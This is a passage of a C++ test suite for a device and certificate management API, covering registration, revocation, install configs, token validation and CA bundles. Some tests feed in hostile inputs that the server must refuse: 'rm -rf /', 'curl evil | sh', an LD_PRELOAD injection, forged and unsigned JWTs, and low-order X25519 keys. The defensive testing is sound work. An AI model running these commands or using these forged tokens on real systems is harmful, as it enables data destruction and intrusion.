    EXPECT_EQ(call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", b.access).status,
              404);
    EXPECT_EQ(call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", a.access).status,
              200);

    // A provisioning key cannot take a over with a new key; a key that may write the device can: one row,
    // the key re-sealed to the new key.
    agent a2 = new_agent(a.public_id);
    auto ra = call("POST", "/apiv1/me/devices", reg_key, json::serialize(registration_body(a2)));
    EXPECT_EQ(ra.status, 409) << ra.body;
    EXPECT_EQ(code_of(ra), 4009);
    EXPECT_EQ(call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", a.access).status,
              200)
        << "the real agent keeps its session and its key";
    ra = call("POST", "/apiv1/me/devices", key, json::serialize(registration_body(a2)));
    ASSERT_EQ(ra.status, 200) << ra.body;
    take_tokens(a2, ra.json().at("data"));
    EXPECT_EQ(a2.device_id, a.device_id);
    EXPECT_EQ(
        schema_->query_int("SELECT COUNT(*) FROM devices WHERE device_public_id = '" + a.public_id + "'"), 1);
    EXPECT_EQ(updates(a, "").status, 401) << "the old session ended with the re-registration";
    auto m = call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", a2.access);
    ASSERT_EQ(m.status, 200) << m.body;
    EXPECT_EQ(b64(m.json().at("data"), "device_keyfp_b64"), blake2b(a2.pk));

    // The user-side device bundle is the same AEAD document.
    auto bundle = call(
        "GET",
        "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates/" + c + "/bundle?pack=download",
        key);
    ASSERT_EQ(bundle.status, 200) << bundle.body;
    EXPECT_NE(bundle.header("content-disposition").find("cert_" + c + "_bundle.json"), std::string::npos);
    EXPECT_EQ(bundle.json().at("data").at("enc_scheme"), "aes256gcm");

    // Revoked: its tokens stop at once and it cannot refresh.
    auto revoke =
        call("PUT", "/apiv1/me/devices/" + std::to_string(b.device_id), key, R"({"status":"REVOKED"})");
    ASSERT_EQ(revoke.status, 200) << revoke.body;
    auto denied = call("GET", "/apiv1/devices/self/updates", b.access);
    EXPECT_TRUE(denied.status == 401 || denied.status == 403) << denied.status;
    EXPECT_EQ(call("POST", "/auth/refresh", headers{}, R"({"refresh_token":")" + b.refresh + R"("})").status,
              401);
    // Registering it again with a new key is refused until its user takes it back.
    agent b2 = new_agent(b.public_id);
    auto again = call("POST", "/apiv1/me/devices", key, json::serialize(registration_body(b2)));
    EXPECT_EQ(again.status, 403) << again.body;
    ASSERT_EQ(
        call("PUT", "/apiv1/me/devices/" + std::to_string(b.device_id), key, R"({"status":"ACTIVE"})").status,
        200);
    EXPECT_EQ(call("POST", "/apiv1/me/devices", reg_key, json::serialize(registration_body(b2))).status, 409);
    EXPECT_EQ(call("POST", "/apiv1/me/devices", key, json::serialize(registration_body(b2))).status, 200);
    // Deleted: its tokens die with it.
    EXPECT_EQ(call("DELETE", "/apiv1/me/devices/" + std::to_string(a.device_id), key).status, 204);
    EXPECT_EQ(call("GET", "/apiv1/devices/self/updates", a2.access).status, 401);
}

// A registration code from a grant that did not name the device only creates new devices; codes are single
// use; a grant the user approved for that device, or the device's live refresh token, lets it register again.
// A low-order X25519 key would make every key sealed to the device readable by anyone: refused (400), and
// nothing is stored.
TEST_F(Devices, ALowOrderDeviceKeyIsRefused) {
    start_devices();
    add_user("poison@example.com");
    auto reg_key = key_for("poison@example.com", {"ForDeviceAuthenticate:*[authenticate]"});
    agent a = new_agent("abababab-2222-4333-8444-555555555555");
    for (auto const& hex :
         {std::string(64, '0'), "01" + std::string(62, '0'),
          std::string("e0eb7a7c3b41b8ae1656e3faf19fc46ada098deb9c32b1fd866205165f49b800")}) {
        a.pk = *hex_decode(hex);
        auto r = call("POST", "/apiv1/me/devices", reg_key, json::serialize(registration_body(a)));
        EXPECT_EQ(r.status, 400) << hex << " " << r.body;
        EXPECT_NE(r.body.find("dev_pk"), std::string::npos) << r.body;
    }
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM devices"), 0);
}

// A device whose stored key cannot be sealed to (a low-order key from before it was refused) does not fail
// the issuance: the others get their wraps, it stays pending.
TEST_F(Devices, OneUnsealableDeviceNeverFailsAnIssuance) {
    start_devices();
    auto uid = add_user("mixed@example.com");
    auto session = login("mixed@example.com");
    auto key = key_for("mixed@example.com", scopes);
    agent good = new_agent("cdcdcdcd-2222-4333-8444-555555555555");
    agent bad = new_agent("efefefef-2222-4333-8444-555555555555");
    ASSERT_NO_FATAL_FAILURE(onboard(good, session, uid));
    ASSERT_NO_FATAL_FAILURE(onboard(bad, session, uid));
    auto const c = std::to_string(self_ca_cert(key, "HYBRID", "mixed.example.com"));
    for (auto const* dev : {&good, &bad}) {
        ASSERT_EQ(call("POST", "/apiv1/me/devices/" + std::to_string(dev->device_id) + "/certificates", key,
                       R"({"cert_id":)" + c + "}")
                          .status /
                      100,
                  2);
    }
    schema_->exec("UPDATE devices SET dev_public_key = UNHEX('" + std::string(64, '0') +
                  "') WHERE id = " + std::to_string(bad.device_id));
    auto issued = call("POST", "/apiv1/me/certificates/" + c + "/issues", key, "{}");
    ASSERT_EQ(issued.status, 200) << issued.body;
    EXPECT_EQ(issued.json().at("data").at("status"), "SUCCESS") << issued.body;
    EXPECT_EQ(
        schema_->query_int("SELECT COUNT(*) FROM certificate_assignments WHERE cert_id = " + c +
                           " AND device_keyfp IS NOT NULL AND device_id = " + std::to_string(good.device_id)),
        1);
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM certificate_assignments WHERE cert_id = " + c +
                                 " AND enc_data_key = UNHEX('" + std::string(96, '0') +
                                 "') AND device_id = " + std::to_string(bad.device_id)),
              1)
        << "the unsealable device's wrap is pending";
}

// Install items that run commands on the agent need devices:<id>[exec] (write alone cannot add or change
// them); every change is audited; devices.allow_commands=false refuses new ones for everyone.
TEST_F(Devices, CommandsOnAgentsNeedTheExecActionAndAreAudited) {
    start_devices();
    auto uid = add_user("ops@example.com");
    auto session = login("ops@example.com");
    agent a = new_agent("a1a1a1a1-2222-4333-8444-555555555555");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    std::string const d = std::to_string(a.device_id);
    auto const writer = key_for("ops@example.com", {"devices:*[read,write]"});
    auto const runner = key_for("ops@example.com", {"devices:" + d + "[write,exec]"});
    auto const updater = key_for("ops@example.com", {"ForInstallConfigUpdate:*[update]"});
    std::string const exec_item =
        R"({"installs":[{"id":"r","type":"exec","ob_type":"cert","ob_id":7,"cmd":"systemctl reload nginx"}]})";
    auto refused = call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer, exec_item);
    EXPECT_EQ(refused.status, 403) << refused.body;
    EXPECT_NE(refused.body.find("devices:" + d + "[exec]"), std::string::npos) << refused.body;
    EXPECT_EQ(call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer,
                   R"({"installs":[],"after_update_script":"rm -rf /"})")
                  .status,
              403);
    EXPECT_EQ(call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer,
                   R"({"installs":[{"type":"copy","ob_type":"cert","ob_id":7,"from":["k"],"to":["/k"],)"
                   R"("env":{"LD_PRELOAD":"/tmp/x.so"}}]})")
                  .status,
              403);
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM device_install_configs WHERE device_id = " + d), 0);

    auto ok = call("PUT", "/apiv1/me/devices/" + d + "/install-config", runner, exec_item);
    ASSERT_EQ(ok.status, 200) << ok.body;
    // The commands unchanged, write is enough for the rest; a patch of the command needs exec.
    auto same = call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer,
                     R"({"installs":[{"id":"r","type":"exec","ob_type":"cert","ob_id":7,)"
                     R"("cmd":"systemctl reload nginx","enabled":true}],"change_note":"same"})");
    EXPECT_EQ(same.status, 200) << same.body;
    auto patch = call("POST", "/apiv1/me/install-config-update/" + a.public_id, updater,
                      R"([{"ob_type":"cert","ob_id":7,"id":"r","cmd":"curl evil | sh"}])");
    EXPECT_EQ(patch.status, 403) << patch.body;
    // Removing commands needs no exec.
    EXPECT_EQ(call("PUT", "/apiv1/me/devices/" + d + "/install-config", writer, R"({"installs":[]})").status,
              200);
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM audit_log WHERE action = 'install_config.update' AND "
                                 "user_id = " +
                                 std::to_string(uid)),
              3);
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM audit_log WHERE action = 'install_config.update' AND "
                                 "JSON_CONTAINS(detail, 'true', '$.runs_commands')"),
              2);
    EXPECT_GE(schema_->query_int("SELECT COUNT(*) FROM audit_log WHERE action = 'permission.denied'"), 4);
}

TEST_F(Devices, CommandsOnAgentsCanBeTurnedOffForTheServer) {
    start(json::object{{"rate_limits", {{"auth_per_minute", 1000}, {"api_per_minute", 100000}}},
                       {"devices", {{"allow_commands", false}}}});
    auto uid = add_user("nocmd@example.com");
    auto session = login("nocmd@example.com");
    agent a = new_agent("b2b2b2b2-2222-4333-8444-555555555555");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    std::string const dev = "/apiv1/users/" + std::to_string(uid) + "/devices/" + std::to_string(a.device_id);
    auto refused = call("PUT", dev + "/install-config", session,
                        R"({"installs":[{"type":"exec","ob_type":"cert","ob_id":7,"cmd":"true"}]})");
    EXPECT_EQ(refused.status, 403) << refused.body;
    EXPECT_NE(refused.body.find("devices.allow_commands"), std::string::npos) << refused.body;
    EXPECT_EQ(call("PUT", dev + "/install-config", session,
                   R"({"installs":[{"type":"copy","ob_type":"cert","ob_id":7,"from":["k"],"to":["/k"]}]})")
                  .status,
              200);
}

// devices.max_devices_per_user bounds what one account registers, on the user side and by agents alike.
TEST_F(Devices, TheDeviceQuotaBoundsRegistrations) {
    start(json::object{{"rate_limits", {{"auth_per_minute", 1000}, {"api_per_minute", 100000}}},
                       {"devices", {{"max_devices_per_user", 2}}}});
    add_user("quota@example.com");
    add_user("other@example.com");
    auto key = key_for("quota@example.com", {"devices:*[read,write]"});
    auto reg_key = key_for("quota@example.com", {"ForDeviceAuthenticate:*[authenticate]"});
    auto first = call("POST", "/apiv1/me/devices", key, R"({"name":"one"})");
    ASSERT_EQ(first.status, 201) << first.body;
    ASSERT_EQ(call("POST", "/apiv1/me/devices", key, R"({"name":"two"})").status, 201);
    auto third = call("POST", "/apiv1/me/devices", key, R"({"name":"three"})");
    EXPECT_EQ(third.status, 403) << third.body;
    EXPECT_EQ(third.json().at("error").at("params").at("limit").as_string(), "devices");
    agent a = new_agent("d4d4d4d4-2222-4333-8444-555555555555");
    EXPECT_EQ(call("POST", "/apiv1/me/devices", reg_key, json::serialize(registration_body(a))).status, 403);
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM devices"), 2);
    // Another account has its own quota; a deleted device frees a place.
    EXPECT_EQ(call("POST", "/apiv1/me/devices", key_for("other@example.com", {"devices:*[write]"}),
                   R"({"name":"mine"})")
                  .status,
              201);
    ASSERT_EQ(call("DELETE", "/apiv1/me/devices/" + std::to_string(id_of(first)), key).status, 204);
    EXPECT_EQ(call("POST", "/apiv1/me/devices", reg_key, json::serialize(registration_body(a))).status, 201);
}

// devices.max_waiting_polls_per_user: past the cap, a long-poll is answered at once instead of waiting.
TEST_F(Devices, LongPollsPastTheUsersCapAreAnsweredAtOnce) {
    start(json::object{{"rate_limits", {{"auth_per_minute", 1000}, {"api_per_minute", 100000}}},
                       {"devices", {{"max_waiting_polls_per_user", 1}}}});
    auto uid = add_user("polls@example.com");
    auto session = login("polls@example.com");
    agent a = new_agent("e5e5e5e5-2222-4333-8444-555555555555");
    agent b = new_agent("f6f6f6f6-2222-4333-8444-555555555555");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    ASSERT_NO_FATAL_FAILURE(onboard(b, session, uid));
    auto const a_cursor = updates(a, "").cursor;
    auto const b_cursor = updates(b, "").cursor;
    auto t0 = std::chrono::steady_clock::now();
    auto held = std::async(std::launch::async, [&] { return updates(a, a_cursor, "?wait=6"); });
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
    auto t1 = std::chrono::steady_clock::now();
    auto extra = updates(b, b_cursor, "?wait=6");
    auto t2 = std::chrono::steady_clock::now();
    EXPECT_EQ(extra.status, 204);
    EXPECT_LT(t2 - t1, std::chrono::seconds(4)) << "the poll past the cap did not wait out its 6 s";
    auto first = held.get();
    EXPECT_EQ(first.status, 204);
    EXPECT_GE(std::chrono::steady_clock::now() - t0, std::chrono::seconds(5)) << "the first one waited";
    // Its seat is free again: the next one waits.
    auto t3 = std::chrono::steady_clock::now();
    EXPECT_EQ(updates(b, b_cursor, "?wait=2").status, 204);
    EXPECT_GE(std::chrono::steady_clock::now() - t3, std::chrono::milliseconds(1500));
}

// Low items of the security review on the device side: a disabled user's devices lose access at once; a
// device_public_id held by another account is refused without saying so; install-config-update takes only
// application/json.
TEST_F(Devices, DisabledUsersDevicesLoseAccessAndOtherTenantsDevicesStayUnnamed) {
    start_devices();
    auto uid = add_user("gone@example.com");
    auto session = login("gone@example.com");
    agent a = new_agent("a9a9a9a9-2222-4333-8444-555555555555");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    ASSERT_NE(updates(a, "").status, 401);

    add_user("other@example.com");
    auto other_key = key_for("other@example.com", {"ForDeviceAuthenticate:*[authenticate]"});
    agent copy = new_agent(a.public_id);
    auto taken = call("POST", "/apiv1/me/devices", other_key, json::serialize(registration_body(copy)));
    EXPECT_EQ(taken.status, 409) << taken.body;
    EXPECT_EQ(taken.body.find("another"), std::string::npos) << taken.body;
    EXPECT_EQ(taken.body.find("gone@"), std::string::npos) << taken.body;

    auto const updater = key_for("gone@example.com", {"ForInstallConfigUpdate:*[update]"});
    auto wrong_type =
        call("POST", "/apiv1/me/install-config-update/" + a.public_id,
             headers{{"Authorization", "Bearer " + updater}, {"Content-Type", "application/jsonx"}}, "[]");
    EXPECT_EQ(wrong_type.status, 415) << wrong_type.body;

    schema_->exec("UPDATE users SET status = 'DISABLED' WHERE id = " + std::to_string(uid));
    EXPECT_EQ(updates(a, "").status, 401) << "a disabled user's device keeps no access";
    EXPECT_EQ(call("GET", "/apiv1/devices/self/install-config", bearer(a.access)).status, 401);
}

// A device's first cursor (no cursor sent, nothing new) is its own high-water mark, not the feed's: it does
// not move when other tenants' devices are told things.
TEST_F(Devices, AFirstCursorDoesNotShowOtherTenantsActivity) {
    start_devices();
    auto quiet_uid = add_user("quiet@example.com");
    auto busy_uid = add_user("busy@example.com");
    agent quiet = new_agent("c1c1c1c1-2222-4333-8444-555555555555");
    agent busy = new_agent("c2c2c2c2-2222-4333-8444-555555555555");
    ASSERT_NO_FATAL_FAILURE(onboard(quiet, login("quiet@example.com"), quiet_uid));
    ASSERT_NO_FATAL_FAILURE(onboard(busy, login("busy@example.com"), busy_uid));
    auto const before = updates(quiet, "");
    auto busy_key = key_for("busy@example.com", {"devices:*[read,write]"});
    for (int i = 0; i < 5; ++i) {
        ASSERT_EQ(call("PUT", "/apiv1/me/devices/" + std::to_string(busy.device_id) + "/install-config",
                       busy_key, R"({"installs":[],"change_note":"n)" + std::to_string(i) + R"("})")
                      .status,
                  200);
    }
    auto const after = updates(quiet, "");
    EXPECT_EQ(after.status, before.status);
    EXPECT_EQ(after.etag, before.etag) << "the quiet device's cursor moved with another tenant's signals";
    EXPECT_EQ(after.cursor, before.cursor);
}

TEST_F(Devices, RegisteringAnExistingDeviceAgainNeedsProofTiedToIt) {
    start_devices();
    auto uid = add_user("owner@example.com");
    auto session = login("owner@example.com");
    agent a = new_agent("12121212-3434-4565-8787-909090909090");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));

    // Someone with an approved code (for a new device) tries a's device_public_id with their own key.
    agent thief = new_agent(a.public_id);
    std::string const code = approved_code(session);
    auto body = registration_body(thief);
    body["user_id"] = uid;
    body["registration_code"] = code;
    auto taken = call("POST", "/apiv1/device/registration", headers{}, json::serialize(body));
    EXPECT_EQ(taken.status, 409) << taken.body;
    EXPECT_EQ(code_of(taken), 4009);
    EXPECT_NE(updates(a, "").status, 401) << "a keeps its session";
    EXPECT_EQ(schema_->query_int("SELECT COUNT(*) FROM devices WHERE device_public_id = '" + a.public_id +
                                 "' AND device_secret_hash = UNHEX('" + hex_encode(blake2b(a.pk)) + "')"),
              1)
        << "a's key is unchanged";

    // The refused attempt did not spend the code: it registers a new device, once.
    agent fresh = new_agent("34343434-5656-4787-9898-010101010101");
    register_with_code(fresh, uid, code, 201);
    auto reuse = registration_body(new_agent("56565656-7878-4909-8a8a-121212121212"));
    reuse["user_id"] = uid;
    reuse["registration_code"] = code;
    auto spent = call("POST", "/apiv1/device/registration", headers{}, json::serialize(reuse));
    EXPECT_EQ(spent.status, 401) << "single use: " << spent.body;

    // Approving a grant for another user's device, or one that does not exist, is refused.
    auto other = call("POST", "/auth/device", session,
                      R"({"action":"device_verify","user_code":"ABCD-EFGH","approve":true,)"
                      R"("device_public_id":"not-a-uuid"})");
    EXPECT_EQ(other.status, 400) << other.body;

    // A grant the user approved naming a lets it register again with a new key: same row, old session ended.
    agent a2 = new_agent(a.public_id);
    register_with_code(a2, uid, approved_code(session, a.public_id), 200);
    EXPECT_EQ(a2.device_id, a.device_id);
    EXPECT_EQ(updates(a, "").status, 401);
    EXPECT_EQ(
        schema_->query_int("SELECT COUNT(*) FROM devices WHERE device_public_id = '" + a.public_id + "'"), 1);
    // The new key makes whatever the agent cached useless: the feed says so (a feed signal, not only a 409).
    auto rekeyed = updates(a2, "");
    ASSERT_EQ(rekeyed.status, 200) << rekeyed.body;
    auto const kinds = types_of(rekeyed.signals);
    EXPECT_NE(std::find(kinds.begin(), kinds.end(), "state.resync_required"), kinds.end());

    // The agent that still holds its live refresh token may register again with any new code.
    agent a3 = new_agent(a.public_id);
    auto with_refresh = registration_body(a3);
    with_refresh["user_id"] = uid;
    with_refresh["registration_code"] = approved_code(session);
    with_refresh["refresh_token"] = a2.refresh;
    auto ok = call("POST", "/apiv1/device/registration", headers{}, json::serialize(with_refresh));
    ASSERT_EQ(ok.status, 200) << ok.body;
    EXPECT_EQ(ok.json().at("data").at("device").at("id").as_int64(), a.device_id);
}

TEST_F(Devices, TamperedForeignAndMissingTokensAre401) {
    start_devices();
    auto uid = add_user("jwt@example.com");
    auto session = login("jwt@example.com");
    agent a = new_agent("abcdefab-cdef-4abc-8def-abcdefabcdef");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    EXPECT_EQ(updates(a, "").status, 204);
    auto status_with = [&](std::string const& token) {
        return call("GET", "/apiv1/devices/self/updates", token).status;
    };
    auto const d1 = a.access.find('.');
    auto const d2 = a.access.find('.', d1 + 1);
    // Another device id in the payload, same signature.
    std::string payload = R"({"sub":")" + std::to_string(uid) + R"(","device_id":)" +
                          std::to_string(a.device_id + 1) + R"(,"sid":1,"exp":9999999999})";
    std::string enc = base64_encode(payload);
    for (auto& ch : enc)
        ch = ch == '+' ? '-' : ch == '/' ? '_' : ch;
    while (!enc.empty() && enc.back() == '=')
        enc.pop_back();
    EXPECT_EQ(status_with(a.access.substr(0, d1 + 1) + enc + a.access.substr(d2)), 401);
    // A flipped signature character, an unsigned token, a foreign secret, garbage, nothing.
    std::string flipped = a.access;
    char& mid = flipped[d2 + 10];  // a character inside the signature (the last one carries padding bits)
    mid = mid == 'A' ? 'B' : 'A';
    std::string padding_bits = a.access;
    {
        std::string const abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        padding_bits.back() = abc[abc.find(padding_bits.back()) ^ 1];
    }  // the same bytes, a non-canonical text
    EXPECT_EQ(status_with(padding_bits), 401);
    EXPECT_EQ(status_with(flipped), 401);
    EXPECT_EQ(status_with("eyJhbGciOiJub25lIn0." + enc + "."), 401);
    EXPECT_EQ(status_with(a.access.substr(0, d2 + 1) + "c2lnbmVkLWJ5LXNvbWVvbmUtZWxzZQ"), 401);
    EXPECT_EQ(status_with("not-a-jwt"), 401);
    EXPECT_EQ(call("GET", "/apiv1/devices/self/updates", headers{}).status, 401);
    // A user's API key is not a device token, and a device token opens no user route.
    auto key = key_for("jwt@example.com", scopes);
    EXPECT_EQ(status_with(key), 401);
    EXPECT_EQ(call("GET", "/apiv1/me/devices", a.access).status, 401);
}

TEST_F(Devices, InstallConfigsAndDeviceCasReachTheAgent) {
    start_devices();
    auto uid = add_user("config@example.com");
    auto session = login("config@example.com");
    auto key = key_for("config@example.com", scopes);
    auto patcher = key_for("config@example.com", {"ForInstallConfigUpdate:*[update,exec]"});
    agent a = new_agent("facade00-1234-4567-89ab-cdef01234567");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    std::string const dev = "/apiv1/users/" + std::to_string(uid) + "/devices/" + std::to_string(a.device_id);

    auto v1 =
        call("PUT", dev + "/install-config", session,
             R"({"installs":[{"id":"c1","type":"copy","ob_type":"cert","ob_id":7,"from":["private.key"],)"
             R"("to":["/etc/ssl/k.pem"]},{"id":"r","type":"exec","ob_type":"cert","ob_id":7,"cmd":"true"}],)"
             R"("after_update_script":"@@@BEGIN posix.sh\necho hi\n@@@END","change_note":"first"})");
    ASSERT_EQ(v1.status, 200) << v1.body;
    EXPECT_EQ(v1.json().at("data").at("version").as_int64(), 1);
    EXPECT_EQ(call("PUT", dev + "/install-config", session, R"({"installs":[{"type":"move"}]})").status, 400);
    EXPECT_EQ(call("PUT", dev + "/install-config", session, R"({"installs":[]})").status, 200);

    // The agent's key patches only the allowed fields of the matching items.
    auto patched = call(
        "POST", "/apiv1/me/install-config-update/" + a.public_id, patcher,
        R"({"patches":[{"ob_type":"cert","ob_id":7,"id":"r","cmd":"systemctl reload nginx","to":["/x"]}]})");
    EXPECT_EQ(patched.status, 404) << "version 2 has no items to patch: " << patched.body;
    auto restored = call("POST", dev + "/install-config/restore", session, R"({"version":1})");
    ASSERT_EQ(restored.status, 200) << restored.body;
    EXPECT_EQ(restored.json().at("data").at("version").as_int64(), 3);
    patched = call("POST", "/apiv1/me/install-config-update/" + a.public_id, patcher,
                   R"([{"ob_type":"cert","ob_id":7,"id":"r","cmd":"systemctl reload nginx","to":["/x"]}])");
    ASSERT_EQ(patched.status, 200) << patched.body;
    EXPECT_NE(std::string(patched.json().at("data").at("message").as_string()).find("version 4"),
              std::string::npos);
    EXPECT_EQ(
        call("POST", "/apiv1/me/install-config-update/" + a.public_id, key, R"({"patches":"x"})").status,
        400);
    EXPECT_EQ(
        call("POST", "/apiv1/me/install-config-update/00000000-0000-4000-8000-00000000dead", patcher, "[]")
            .status,
        404);

    auto cfg = call("GET", "/apiv1/devices/self/install-config", a.access);
    ASSERT_EQ(cfg.status, 200) << cfg.body;
    json::value const c = cfg.json().at("data");
    EXPECT_EQ(c.at("version").as_int64(), 4);
    EXPECT_EQ(c.at("installs").at(1).at("cmd"), "systemctl reload nginx");
    EXPECT_EQ(c.at("installs").at(0).at("to").at(0), "/etc/ssl/k.pem") << "to is not patchable";
    EXPECT_EQ(std::string(c.at("after_update_script").as_string()).rfind("@@@BEGIN posix.sh", 0), 0u);
    auto history = call("GET", dev + "/install-config-histories?limit=10", session);
    ASSERT_EQ(history.status, 200) << history.body;
    EXPECT_EQ(history.json().at("meta").at("total").as_int64(), 4);
    EXPECT_EQ(history.json().at("data").at(0).at("version").as_int64(), 4);
    EXPECT_EQ(history.json().at("data").at(3).at("change_note"), "first");
    EXPECT_EQ(call("POST", dev + "/install-config/restore", session, R"({"version":99})").status, 404);

    // A CA assigned to the device: ca.assigned, the bundle, then ca.unassigned and 404; deleting the CA
    // itself also tells the device.
    auto ca = call("POST", "/apiv1/me/cas", key, R"({"common_name":"Trust me","valid_days":30})");
    ASSERT_EQ(ca.status, 200) << ca.body;
    auto const ca_id = std::to_string(id_of(ca));
    EXPECT_EQ(call("GET", "/apiv1/devices/self/cas/" + ca_id + "/bundle", a.access).status, 404);
    ASSERT_EQ(call("POST", dev + "/cas", session, R"({"ca_id":)" + ca_id + "}").status, 204);
    ASSERT_EQ(call("POST", dev + "/cas", session, R"({"ca_id":)" + ca_id + "}").status, 204) << "idempotent";
    EXPECT_EQ(call("POST", dev + "/cas", session, R"({"ca_id":999999})").status, 404);
    auto bundle = call("GET", "/apiv1/devices/self/cas/" + ca_id + "/bundle?pack=download", a.access);
    ASSERT_EQ(bundle.status, 200) << bundle.body;
    EXPECT_EQ(bundle.json().at("data").at("ca_certificate_pem"),
              ca.json().at("data").at("ca_certificate_pem"));
    EXPECT_FALSE(bundle.json().at("data").at("ca_certificate_der_b64").as_string().empty());
    EXPECT_NE(bundle.header("content-disposition").find("attachment"), std::string::npos);
    auto listed = call("GET", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/cas", key);
    EXPECT_EQ(listed.json().at("meta").at("total").as_int64(), 1) << listed.body;
    EXPECT_EQ(call("DELETE", dev + "/cas/" + ca_id, session).status, 204);
    EXPECT_EQ(call("DELETE", dev + "/cas/" + ca_id, session).status, 404);
    EXPECT_EQ(call("GET", "/apiv1/devices/self/cas/" + ca_id + "/bundle", a.access).status, 404);
    ASSERT_EQ(call("POST", dev + "/cas", session, R"({"ca_id":)" + ca_id + "}").status, 204);
    ASSERT_EQ(call("DELETE", "/apiv1/me/cas/" + ca_id, key).status, 204);

    auto f = updates(a, "");
    ASSERT_EQ(f.status, 200);
    EXPECT_EQ(
        types_of(f.signals),
        (std::vector<std::string>{"install.updated", "install.updated", "install.updated", "install.updated",
                                  "ca.assigned", "ca.unassigned", "ca.assigned", "ca.unassigned"}));
    EXPECT_EQ(f.signals[4].at("ref").at("ca_name"), "Trust me");
    EXPECT_EQ(f.signals[3].at("ref").at("version").as_int64(), 4);
}

TEST_F(Devices, TheVerificationPageIsServedWithAStrictPolicy) {
    start_devices();
    auto start = call("POST", "/auth/device", headers{}, R"({"action":"device_start"})");
    ASSERT_EQ(start.status, 200) << start.body;
    std::string const uri(start.json().at("data").at("verification_uri_complete").as_string());
    auto const path = uri.substr(uri.find("/device"));
    auto page = call("GET", path, headers{});
    ASSERT_EQ(page.status, 200) << "verification_uri_complete is served here: " << path;
    EXPECT_EQ(page.header("content-type"), "text/html; charset=utf-8");
    EXPECT_NE(page.body.find("device_verify"), std::string::npos);
    EXPECT_NE(page.body.find("/auth/general"), std::string::npos);
    // The only script is the inline one, allowed by its SHA-256 in the policy.
    auto const a = page.body.find("<script>") + 8;
    auto const b = page.body.find("</script>");
    ASSERT_NE(b, std::string::npos);
    std::string const script = page.body.substr(a, b - a);
    std::string const csp = page.header("content-security-policy");
    EXPECT_NE(csp.find("script-src 'sha256-" + base64_encode(crypto::sha256(script)) + "'"),
              std::string::npos)
        << csp;
    EXPECT_NE(csp.find("default-src 'none'"), std::string::npos);
    EXPECT_EQ(page.body.find("<script", b), std::string::npos) << "one script only";
}

TEST_F(Devices, ShutdownAnswersWaitingLongPollsAtOnce) {
    start_devices();
    auto uid = add_user("bye@example.com");
    auto session = login("bye@example.com");
    agent a = new_agent("0badc0de-1234-4567-89ab-cdef01234567");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    auto waiting = std::async(std::launch::async, [&] { return updates(a, "", "?wait=30"); });
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
    auto t0 = std::chrono::steady_clock::now();
    EXPECT_EQ(server_->stop(SIGTERM), 0);
    auto r = waiting.get();
    EXPECT_EQ(r.status, 204);
    EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(3))
        << "not held for the grace period";
}

// certificate.deployed as the real agent causes it: after cert.updated it fetches the deploy materials and
// acknowledges the batch with its next poll's cursor; the webhook says which device has which serial in
// place.
TEST_F(Devices, AnAgentThatFetchesAndAcknowledgesItsCertificateFiresCertificateDeployed) {
    webhook_sink rx(dir_.path() / "rx-root.pem");
    start(json::object{
        {"rate_limits", {{"auth_per_minute", 1000}, {"api_per_minute", 100000}}},
        {"egress", {{"allow", json::array{"127.0.0.1/32"}}}},
        {"webhooks", {{"ca_file", (dir_.path() / "rx-root.pem").string()}, {"poll_interval_ms", 50}}}});
    auto uid = add_user("deploy@example.com");
    auto session = login("deploy@example.com");
    auto key = key_for("deploy@example.com", {"acme_accounts:*[read,write]", "cas:*[read,write]",
                                              "certificates:*[read,write,issue,assign]",
                                              "devices:*[read,write]", "webhooks:*[write]"});
    auto hook = call("POST", "/apiv1/me/webhooks", key,
                     R"({"url":")" + rx.url("/deployed") + R"(","events":["certificate.deployed"]})");
    ASSERT_EQ(hook.status, 201) << hook.body;
    std::string const secret(hook.json().at("data").at("secret").as_string());
    agent a = new_agent("7b0c2f7e-3f43-4c55-9c1e-2a8f5b1d9e77");
    ASSERT_NO_FATAL_FAILURE(onboard(a, session, uid));
    auto cert = self_ca_cert(key, "HYBRID", "deployed.example.com");
    auto const c = std::to_string(cert);
    ASSERT_EQ(call("POST", "/apiv1/me/devices/" + std::to_string(a.device_id) + "/certificates", key,
                   R"({"cert_id":)" + c + "}")
                  .status,
              200);
    auto deployed = [&](std::size_t n) { return rx.wait(n); };
    std::string cursor;
    for (int round = 1; round <= 2; ++round) {
        // Issued (then renewed): the agent sees cert.updated, fetches the materials and acknowledges.
        auto issued = call("POST", "/apiv1/me/certificates/" + c + "/issues", key, "{}");
        ASSERT_EQ(issued.status, 200) << issued.body;
        auto f = updates(a, cursor);
        ASSERT_EQ(f.status, 200) << f.body;
        auto dm = call("GET", "/apiv1/devices/self/certificates/" + c + "/deploy-materials", a.access);
        ASSERT_EQ(dm.status, 200) << dm.body;
        std::this_thread::sleep_for(std::chrono::milliseconds(300));
        EXPECT_EQ(rx.events().size(), static_cast<std::size_t>(round - 1)) << "not before the ack";
        cursor = f.cursor;
        auto ack = updates(a, cursor);
        EXPECT_EQ(ack.status, 204) << ack.body;
